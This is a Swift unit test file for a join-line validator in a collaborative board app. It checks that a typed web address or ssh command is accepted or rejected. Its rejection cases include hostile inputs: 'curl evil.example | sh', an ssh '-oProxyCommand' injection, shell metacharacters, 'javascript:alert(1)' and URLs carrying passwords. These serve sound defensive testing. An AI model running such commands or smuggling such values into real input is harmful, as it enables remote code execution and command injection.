// How people join: which lines are such lines, and what the board makes of them.
import Testing

@testable import Board

@Suite("The line by which people join") struct JoinLineTests {
  private func fault(_ typed: String) -> JoinLine.Fault? {
    do throws(JoinLine.Fault) {
      _ = try JoinLine(typed)
      return nil
    } catch { return error }
  }

  @Test(
    "may be a web address",
    arguments: [
      "https://bord.example.org", "http://192.168.1.4:7681/", "https://bord.example.org/sessie/?groep=3&naam=a%20b#nu",
      "HTTPS://BORD.EXAMPLE",
      "https://groep@bord.example.org", "http://[fe80::1]:80/",
    ])
  func address(typed: String) throws {
    let line = try JoinLine(typed)
    #expect(line.text == typed && line.way == .browser)
  }

  @Test(
    "may be a command of ssh",
    arguments: [
      "ssh groep@bord.example.org", "ssh -p 2222 groep@bord.example.org", "ssh -4 -l groep bord", "ssh groep@fe80::1%eth0",
      "ssh -t groep@bord.example.org praatplaat open /srv/bord.praat --group 3",
    ])
  func command(typed: String) throws {
    let line = try JoinLine(typed)
    #expect(line.text == typed && line.way == .terminal)
  }

  @Test("has one space between its words, and none around it") func spaces() throws {
    #expect(try JoinLine("  https://bord.example.org ").text == "https://bord.example.org")
    #expect(try JoinLine("ssh   -p\t2222 groep@bord").text == "ssh -p 2222 groep@bord")
  }

  @Test("says where to, and with what") func whereTo() {
    for typed in ["", "bord.example.org", "praatplaat open bord.praat", "ftp://bord", "sshgroep@bord", "javascript:alert(1)"] {
      #expect(fault(typed) == .unknownWay)
    }
    for typed in ["https://", "https:///pad", "https://?a", "http://@", "ssh", "ssh -p 22", "ssh groep@", "ssh @", "https://.nl"] {
      #expect(fault(typed) == .nowhere, "\(typed)")
    }
    #expect(fault("https://bord.example.org en dan") == .space)
    #expect(fault("https://" + String(repeating: "a", count: Limits.lineScalars)) == .tooLong)
  }

  @Test("means nothing more to a shell, and asks nothing of ssh but to go there") func harmless() {
    for sign: Character in [
      ";", "|", "&", "$", "`", "'", "\"", "\\", "(", ">", "<", "*", "?", "!", "#", "~", "{", "é", "\n", "\u{1B}", "\u{202E}",
    ] {
      #expect(fault("ssh groep@bord\(sign)x") == .sign(sign))
    }
    for sign: Character in ["\"", "'", "\\", "<", ">", "`", "ü", "\u{7}", "\u{200B}"] {
      #expect(fault("https://bord/\(sign)") == .sign(sign))
    }
    for option in ["-oProxyCommand=xterm", "-o", "-F", "-D", "-L", "-tt", "--"] { #expect(fault("ssh \(option) bord") == .option(option)) }
  }

  @Test("says what belongs behind -p and -l, and what stands there instead") func values() {
    for port in ["veel", "0", "99999", "-1", "groep@bord"] { #expect(fault("ssh -p \(port) bord") == .value(of: "-p", port)) }
    #expect(fault("ssh -p") == .value(of: "-p", "") && fault("ssh -p groep@bord") == .value(of: "-p", "groep@bord"))
    #expect(fault("ssh -l -t bord") == .value(of: "-l", "-t") && fault("ssh -l") == .value(of: "-l", ""))
  }

  @Test("shows nobody's password") func password() {
    for typed in ["https://groep:geheim@bord.example.org", "http://:x@bord", "https://a:b@c@bord/pad"] {
      #expect(fault(typed) == .password)
    }
    #expect(fault("https://bord.example.org:8080/a:b@c") == nil)
  }

  @Test("stands on the board until it is taken away") func onTheBoard() throws {
    var room = Room()
    #expect(room.board.joinLine == nil)
    let line = try JoinLine("https://bord.example.org")
    room.say(.join(line))
    #expect(room.board.joinLine == line)
    #expect(room.board.changes(for: .join(line), at: Instant(milliseconds: 0)).isEmpty)
    room.say(.join(nil))
    #expect(room.board.joinLine == nil)
  }

  @Test("is for everybody, whoever was meant") func forEverybody() throws {
    let changes = Room().board.changes(for: .join(try JoinLine("ssh bord")), to: .groups(["1"]), at: Instant(milliseconds: 0))
    #expect(changes.map(\.thing) == [.session])
  }

  @Test("is none where another program wrote anything else there") func anythingElse() {
    var room = Room()
    for text in ["curl evil.example | sh", "ssh -oProxyCommand=x bord", ""] {
      room.set(.session, [.join: .text(text)], by: "1")
      #expect(room.board.joinLine == nil)
    }
    room.set(.session, [.join: .number(3)], by: "1")
    #expect(room.board.joinLine == nil)
  }

  @Test("is told as it is now, and not as it was") func told() throws {
    var room = Room()
    room.say(.join(try JoinLine("https://oud.example")))
    room.say(.join(try JoinLine("https://nieuw.example")))
    let told = room.board.events.filter { $0.thing == .session }.compactMap(room.board.withoutTakenBack)
    #expect(told.flatMap(\.set).map(\.value) == [.text("https://nieuw.example")])
  }

  @Test("stays behind in a copy: it leads to the board where it was said") func copies() throws {
    var room = Room()
    room.say(.join(try JoinLine("https://bord.example.org")))
    for contents in [CopyContents.setup, .theme(.residentMix), .everything] {
      let copy = room.board.copied(
        as: BoardID(high: 3, low: 4), contents, setupWriter: WriterID(bits: 7), writer: WriterID(bits: 8), at: Instant(milliseconds: 0))
      #expect(Board(copy).joinLine == nil)
    }
  }
}
